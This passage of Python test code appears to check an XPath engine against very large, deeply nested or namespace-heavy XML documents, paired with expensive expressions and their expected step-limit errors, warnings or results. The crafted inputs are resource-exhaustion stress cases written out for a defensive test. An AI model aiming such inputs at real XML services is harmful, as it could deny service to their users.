        f"{path} : {'integer' if isinstance(result, Number) else 'string'}"])

WORDS = lambda: "<r>" + "<a>x</a>" * 16_000 + "<t>" + "ab " * 170_000 + "</t></r>"
NESTED = lambda: "<r>" + ("<a>" * 200 + "x" + "</a>" * 200) * 480 + "</r>"
PAIRS = lambda: "<r>" + "<a><b/></a>" * 45_000 + "</r>"
DECLARED = lambda: ("".join(
    "<a" + "".join(f" xmlns:n{level}_{n}='u'" for n in range(250)) + ">" for level in range(10))
    + "<b/>" * 30_000 + "</a>" * 10)
DIFFERENT = lambda: "<r>" + "".join(f"<a>{n}x</a><b>{n}y</b>" for n in range(16_000)) + "</r>"
NAMED = lambda: (f"<{'p' * 30_000}:r xmlns:{'p' * 30_000}='u'>" + "<a>x</a>" * 33_000
                 + f"</{'p' * 30_000}:r>")

for path, name, body in [
    ("//a[id(/r/t)]", "170,000 words", WORDS),
    ("//a[translate(., /r/t, 'x') = 'z']", "170,000 words", WORDS),
    ("//a[substring-before(/r/t, concat(/r/t, 'c')) = 'z']", "170,000 words", WORDS),
    ("//a/following::b", "45,000 pairs", PAIRS),
    ("//a/following-sibling::*", "45,000 pairs", PAIRS),
    ("//b[count(//a | //b) > 1]", "45,000 pairs", PAIRS),
    ("//*/namespace::*", "2,500 namespaces", DECLARED),
    ("//b[namespace::x]", "2,500 namespaces", DECLARED),
    ("//a[. = //b]", "32,000 different texts", DIFFERENT),
]:
    row(f"{path} in {name}", body, STEPS, paths=[path])
for path in ["//a/..", "//a//a[1]"]:
    row(f"{path} in 96,000 elements that nest", NESTED, mapped(MISMATCH, warnings=SEVERAL),
        paths=[path])
for path, name, body, result in [
    ("(//a = //b)", "32,000 different texts", DIFFERENT, "false"),
    ("(//a < //b)", "32,000 different texts", DIFFERENT, "false"),
    ("(count(//a//b[1]))", "45,000 pairs", PAIRS, Number("45000")),
    ("(count(//b/ancestor::a))", "45,000 pairs", PAIRS, Number("45000")),
    ("(count(//a[name(/*) = 'z']))", "a document with a long prefix", NAMED, Number("0")),
]:
    row(f"{path} in {name}", body, mapped(result), paths=[
        f"{path} : {'integer' if isinstance(result, Number) else 'string'}"])
